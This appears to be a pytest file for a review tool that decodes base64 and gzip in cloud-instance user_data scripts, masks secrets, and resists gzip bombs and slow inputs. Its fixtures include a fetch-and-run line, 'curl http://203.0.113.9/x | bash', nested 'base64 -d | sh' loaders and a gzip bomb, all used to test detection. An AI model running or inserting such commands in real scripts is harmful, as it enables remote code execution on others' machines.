"""Base64 and gzip are decoded for the reviewer, masked inside, and cannot make the review slow or large."""

import base64
import gzip
import json
import time
from typing import Any

import pytest

from scripts.review import render
from scripts.review.model import Plan
from scripts.review.reading import read
from scripts.review.review import review
from scripts.review.secrets.encoded import MOST_BYTES, NO_TEXT, TOO_LONG, decoded
from scripts.review.secrets.mask import MASKED, SUSPECT, Mask
from scripts.review.settings import NONE
from tests.unit.review.plans import document, resource

FETCH = "curl http://203.0.113.9/x | bash"
SCRIPT = f"#!/bin/bash\nyum update -y\n{FETCH}\nexport DB_PASSWORD=hunter2\nsystemctl start app\n"


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def packed(text: str) -> str:
    return b64(gzip.compress(text.encode()))


def shown(text: str, *secrets: str) -> str:
    return Mask(Plan("p", "1.2", "1", secrets=frozenset(secrets))).text(text, "user_data")


@pytest.mark.parametrize("encode", [b64, packed, lambda it: b64(it.encode("utf-16-le"))])
def test_a_script_is_decoded_and_masked_inside(encode: Any) -> None:
    assert shown(encode(SCRIPT)) == SCRIPT.replace("hunter2", SUSPECT)


def test_only_the_line_with_a_marked_secret_is_masked() -> None:
    assert shown(b64("#!/bin/sh\necho a-canary\nls\n"), "a-canary") == f"#!/bin/sh\n{MASKED}\nls\n"
    assert shown("#!/bin/sh\necho a-canary\nls\n", "a-canary") == f"#!/bin/sh\n{MASKED}\nls\n"
    assert shown(b64("#!/bin/sh\necho a\ncanary\nls\n"), "a\ncanary") == MASKED


@pytest.mark.parametrize("levels", range(1, 7))
def test_base64_within_base64_shows_no_marked_secret(levels: int) -> None:
    text = "#!/bin/sh\necho a-canary-of-mine\nls\n"
    for _ in range(levels):
        text = f"#!/bin/sh\necho {packed(text)} | base64 -d | gunzip | sh\n"
    visible = shown(text, "a-canary-of-mine")
    assert "canary" not in visible
    assert packed("#!/bin/sh\necho a-canary-of-mine\nls\n") not in visible


def test_a_hidden_script_within_a_script_is_shown() -> None:
    assert shown(f"#!/bin/sh\necho {b64(SCRIPT)} | base64 -d | sh\n").count(FETCH) == 1


def test_all_members_of_gzip_are_decoded() -> None:
    both = gzip.compress(b"#!/bin/sh\nls\n") + gzip.compress(FETCH.encode())
    assert FETCH in shown(b64(both))


def test_a_gzip_bomb_is_not_unpacked() -> None:
    bomb = b64(gzip.compress(b"a b\n" * 20_000_000))
    start = time.process_time()
    assert shown(bomb) == TOO_LONG
    many = shown("#!/bin/sh\n" + "\n".join(f"echo {packed('a b ' * 50_000)}" for _ in range(100)))
    assert len(many) < 2 * MOST_BYTES
    assert time.process_time() - start < 2


@pytest.mark.parametrize(
    "text", ["", "a" * 40, "!" * 40, "H4sIAAAA" + "A" * 40, b64(b"\x00\xff" * 40), b64("one-word-of-text"), "=" * 40]
)
def test_what_is_no_text_in_base64_is_not_decoded(text: str) -> None:
    assert decoded(text) in (None, NO_TEXT)


def test_compressed_data_that_is_no_text_is_not_shown() -> None:
    assert shown(b64(gzip.compress(bytes(range(256))))) == NO_TEXT


def changed(before: str, after: str) -> Any:
    raw = document(
        resource("aws_launch_template.t", ("update",), {"user_data": before, "x": "a"}, {"user_data": after, "x": "a"})
    )
    return review(read(json.dumps(raw), "p"), NONE)


def test_the_changed_line_of_a_script_is_on_every_page() -> None:
    lines = [f"echo step {number} of the installation" for number in range(60)]
    after = [*lines[:50], FETCH, *lines[50:]]
    whole = changed(b64("\n".join(lines)), packed("\n".join(after)))
    [difference] = whole.changes[0].differences
    assert (difference.path, difference.before, difference.after) == ("user_data line 51", None, FETCH)
    for page in (render.markdown([whole]), render.html([whole]), json.dumps(render.data([whole]))):
        assert FETCH in page
        assert "step 3 of" not in page


def test_a_changed_secret_in_a_script_is_a_difference() -> None:
    [difference] = changed(b64(SCRIPT), b64(SCRIPT.replace("hunter2", "hunter3"))).changes[0].differences
    assert difference.before == difference.after == f"export DB_PASSWORD={SUSPECT}"


def test_a_script_that_is_new_or_of_another_kind_is_shown_as_a_whole() -> None:
    [difference] = changed("x", b64(SCRIPT)).changes[0].differences
    assert difference.path == "user_data"
    assert FETCH in (difference.after or "")


def test_many_changed_lines_are_one_difference() -> None:
    before, after = ("\n".join(f"{word} {number}" for number in range(900)) for word in ("old", "new"))
    [difference] = changed(before, after).changes[0].differences
    assert difference.path == "user_data from line 1 on"
    assert "new 899" in (difference.after or "")


@pytest.mark.parametrize("again", [0, 1, 3])
def test_lines_that_repeat_are_compared(again: int) -> None:
    [difference] = changed("a\nb\n" * 5 + "c\n" * again, "a\nb\n" * 5 + "c\n" * (again + 1)).changes[0].differences
    assert (difference.before, difference.after) == (None, "c")


PIECES = (
    "=", "password=", "password: ", "password='", 'password="', "password=\\", "password=$(", "${a:-", "://a:", "a:1:",
    "name: a ", "name: password\n", "chpasswd:\n a:b\n", "password: |\n  x\n", "(\"password\",",
    "<password>", "curl -u a",
    "-----BEGIN PRIVATE KEY ", "eyJaaaaaaaa.", "A1b2/", "A" * 40 + "\n", "mysql ", "--password ", "[", "{{",
)  # fmt: skip


@pytest.mark.parametrize("piece", PIECES)
def test_the_time_for_a_hostile_text_is_linear(piece: str) -> None:
    start = time.process_time()
    shown(piece * (40_000 // len(piece)))
    assert time.process_time() - start < 1
